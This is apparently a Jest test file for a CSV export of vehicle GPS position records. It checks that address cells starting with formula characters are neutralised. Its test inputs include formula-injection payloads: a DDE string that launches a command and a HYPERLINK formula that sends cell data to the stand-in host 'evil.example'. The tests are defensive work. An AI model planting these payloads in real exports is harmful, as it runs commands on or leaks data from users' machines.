import { Readable } from 'node:stream';
import type { PositionDto } from '../dto/position.response';
import { CSV_FORMAT } from './csv.format';

const POSITION: PositionDto = {
  recordedAt: '2026-04-04T14:30:00.000Z',
  receivedAt: '2026-04-04T14:30:01.217Z',
  eventcode: '101',
  fix: true,
  lat: -34.6037,
  lon: -58.3816,
  altitude: -12.5,
  speed: 45,
  heading: 180,
  satellites: 12,
  ignition: true,
  accuracy: 3.5,
  odometer: 125430,
  horometer: null,
  address: 'Av. 9 de Julio 1000',
  temperature: -4,
  battery: null,
  source: 'telemetry',
  extra: null,
};

async function render(positions: PositionDto[]): Promise<string[]> {
  let text = '';
  for await (const piece of CSV_FORMAT.render('352093081234567', () => Readable.from([positions])))
    text += piece;
  return text.split('\r\n');
}

/** The row of POSITION around its `address` cell. */
const BEFORE_ADDRESS =
  '2026-04-04T14:30:00.000Z,2026-04-04T14:30:01.217Z,101,true,-34.6037,-58.3816,-12.5,45,180,' +
  '12,true,3.5,125430,,';
const AFTER_ADDRESS = ',-4,,telemetry,';

describe('CSV_FORMAT', () => {
  it('keeps its header, and numbers (negative ones too) as they are', async () => {
    const [header, row] = await render([POSITION]);
    expect(header).toBe(
      'recordedAt,receivedAt,eventcode,fix,lat,lon,altitude,speed,heading,satellites,ignition,' +
        'accuracy,odometer,horometer,address,temperature,battery,source,extra',
    );
    expect(row).toBe(`${BEFORE_ADDRESS}Av. 9 de Julio 1000${AFTER_ADDRESS}`);
  });

  it.each([
    [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    ],
    ['=1+1, then more', `"'=1+1, then more"`],
    ['-34.6', `'-34.6`],
  ])('neutralises the text %j, which a spreadsheet would run, as %j', async (address, expected) => {
    const [, row] = await render([{ ...POSITION, address }]);
    expect(row).toBe(`${BEFORE_ADDRESS}${expected}${AFTER_ADDRESS}`);
  });

  it('leaves a text alone when formula characters come only after its start', async () => {
    const address = 'Calle 1 = 2 + 3 - 4 @ 5';
    const [, row] = await render([{ ...POSITION, address }]);
    expect(row).toBe(`${BEFORE_ADDRESS}${address}${AFTER_ADDRESS}`);
  });
});
